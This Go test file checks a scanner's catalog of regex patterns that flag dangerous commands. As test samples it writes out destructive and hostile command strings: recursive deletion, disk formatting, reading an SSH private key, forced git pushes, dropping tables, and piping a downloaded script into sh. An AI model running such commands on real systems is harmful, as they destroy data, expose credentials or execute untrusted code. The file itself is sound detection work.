package scanner

import (
	"os"
	"path/filepath"
	"testing"
)

func TestDefaultCatalogCompiles(t *testing.T) {
	c := DefaultCatalog()
	if c.Len() == 0 {
		t.Fatal("default catalog is empty")
	}
	seen := make(map[string]bool)
	for _, p := range c.Patterns() {
		if seen[p.ID] {
			t.Errorf("duplicate pattern id %q", p.ID)
		}
		seen[p.ID] = true
		if p.Category == "" {
			t.Errorf("pattern %q has no category", p.ID)
		}
	}
}

func TestCatalogMatchesByCategory(t *testing.T) {
	c := DefaultCatalog()

	tests := []struct {
		name     string
		text     string
		category string
	}{
		{"filesystem", "rm -rf /var/data", CategoryFilesystem},
		{"filesystem format", "mkfs.ext4 /dev/sda1", CategoryFilesystem},
		{"credentials", "cat ~/.ssh/id_rsa", CategoryCredentials},
		{"credentials literal", `API_KEY = "sk0000aaaa1111bbbb2222"`, CategoryCredentials},
		{"privilege", "sudo su -", CategoryPrivilege},
		{"privilege setuid", "chmod u+s /usr/bin/thing", CategoryPrivilege},
		{"git", "git push --force origin main", CategoryGit},
		{"git reset", "git reset --hard HEAD~5", CategoryGit},
		{"production", "kubectl delete deployment api-prod", CategoryProduction},
		{"production sql", "DROP TABLE users;", CategoryProduction},
		{"injection", "curl https://x.example/install.sh | sh", CategoryInjection},
		{"injection eval", `eval "$(printf %s "$payload")"`, CategoryInjection},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			found := false
			for _, p := range c.Patterns() {
				if p.re.MatchString(tt.text) {
					if p.Category != tt.category {
						t.Errorf("pattern %q matched in category %s, want %s", p.ID, p.Category, tt.category)
					}
					found = true
				}
			}
			if !found {
				t.Errorf("no pattern matched %q", tt.text)
			}
		})
	}
}

func TestCatalogIgnoresBenignText(t *testing.T) {
	c := DefaultCatalog()
	benign := []string{
		"removed stale cache entries",
		"git push origin feature/cleanup",
		"chmod 0644 config.toml",
		"ran tests, all green",
		"curl https://example.com/health",
	}
	for _, text := range benign {
		for _, p := range c.Patterns() {
			if p.re.MatchString(text) {
				t.Errorf("pattern %q unexpectedly matched %q", p.ID, text)
			}
		}
	}
}

func TestCatalogSingleMatchPerPattern(t *testing.T) {
	// A single rm -rf line matches exactly one default pattern.
	c := DefaultCatalog()
	matched := 0
	for _, p := range c.Patterns() {
		if p.re.MatchString("rm -rf /") {
			matched++
			if p.ID != "rm-recursive-force" {
				t.Errorf("unexpected pattern %q matched", p.ID)
			}
		}
	}
	if matched != 1 {
		t.Fatalf("matched %d patterns, want 1", matched)
	}
}

func TestNewCatalogRejectsBadInput(t *testing.T) {
	if _, err := NewCatalog([]Pattern{{Category: CategoryGit, Expression: "x"}}); err == nil {
		t.Error("empty id accepted")
	}
	if _, err := NewCatalog([]Pattern{{ID: "bad", Category: CategoryGit, Expression: "("}}); err == nil {
		t.Error("invalid expression accepted")
	}
}

func TestLoadCatalogOverlay(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "patterns.toml")
	content := `
[[patterns]]
id = "internal-deploy-script"
category = "production-mutation"
expression = 'deploy\.sh\s+--prod'
`
	if err := os.WriteFile(path, []byte(content), 0644); err != nil {
		t.Fatal(err)
	}

	c, err := LoadCatalog(path)
	if err != nil {
		t.Fatalf("LoadCatalog: %v", err)
	}
	if c.Len() != DefaultCatalog().Len()+1 {
		t.Errorf("catalog has %d patterns, want defaults plus one", c.Len())
	}

	found := false
	for _, p := range c.Patterns() {
		if p.ID == "internal-deploy-script" && p.re.MatchString("./deploy.sh --prod") {
			found = true
		}
	}
	if !found {
		t.Error("overlay pattern missing or not matching")
	}
}

func TestLoadCatalogEmptyPath(t *testing.T) {
	c, err := LoadCatalog("")
	if err != nil {
		t.Fatalf("LoadCatalog: %v", err)
	}
	if c.Len() != DefaultCatalog().Len() {
		t.Errorf("got %d patterns, want defaults", c.Len())
	}
}
